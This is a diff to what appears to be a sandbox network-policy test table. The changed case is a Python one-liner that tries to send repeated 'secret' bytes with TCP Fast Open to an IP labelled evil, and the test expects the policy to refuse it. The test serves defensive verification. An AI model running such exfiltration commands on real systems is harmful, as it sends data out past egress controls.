@@ -81,8 +81,8 @@ try:
 except OSError as e: print("refused", e)
 '`, "refused", "", ""},
 		{"data in the first packet", `python3 -c '
-import socket
-s = socket.socket(); s.settimeout(9)
+import socket, struct
+s = socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVTIMEO, struct.pack("ll", 9, 0)) # one with settimeout would not wait
 try: s.sendto(b"secret" * 9, 0x20000000, ("151.101.1.69", 9)); print("got", s.recv(9))
 except OSError as e: print("refused", e)
 '`, "refused", evilIPv4, policy.DefaultDeny},
